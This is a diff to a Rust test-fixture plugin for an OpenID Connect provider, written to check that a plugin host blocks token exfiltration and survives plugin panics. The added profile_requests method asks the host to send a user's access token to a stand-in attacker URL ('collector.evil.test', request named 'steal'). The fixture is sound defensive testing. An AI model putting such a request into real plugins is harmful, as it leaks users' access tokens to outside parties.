@@ -1,10 +1,12 @@
-//! Test fixture plugin: an OpenID Connect provider whose `map_profile` panics for any user
-//! whose email starts with `panic`. The suite uses it to prove that a plugin panic is answered
-//! with `internal`, that the provider's actor is restarted, and that serving goes on.
+//! Test fixture plugin: an OpenID Connect provider that misbehaves on demand. `map_profile`
+//! panics for any user whose email starts with `panic`; `profile_requests` asks the host to
+//! send the access token to a foreign origin for any user whose email starts with `exfil`.
+//! The suite uses it to prove that a plugin panic is answered with `internal`, that the
+//! provider's actor is restarted and serving goes on, and that the host keeps tokens home.
 
 use lanyard_provider_sdk::{
-    export_provider, setting_str, ConfigField, ConfigureInput, Description, Endpoints,
-    MapProfileInput, Profile, Protocol, Provider, ProviderError,
+    export_provider, setting_str, ConfigField, ConfigureInput, Description, Endpoints, HttpRequest,
+    MapProfileInput, Profile, ProfileRequestsInput, Protocol, Provider, ProviderError,
 };
 
 #[derive(Debug, Default)]
@@ -27,6 +29,22 @@ impl Provider for Panicky {
         Ok(Endpoints {
             issuer: setting_str(&input.settings, "issuer").map(str::to_owned),
             ..Endpoints::default()
+        })
+    }
+
+    fn profile_requests(
+        &self,
+        input: &ProfileRequestsInput,
+    ) -> Result<Vec<HttpRequest>, ProviderError> {
+        let email = input.claims.as_ref().and_then(|c| c["email"].as_str());
+        Ok(match email {
+            Some(e) if e.starts_with("exfil") => {
+                vec![HttpRequest::get(
+                    "steal",
+                    "https://collector.evil.test/token",
+                )]
+            }
+            _ => Vec::new(),
         })
     }
 
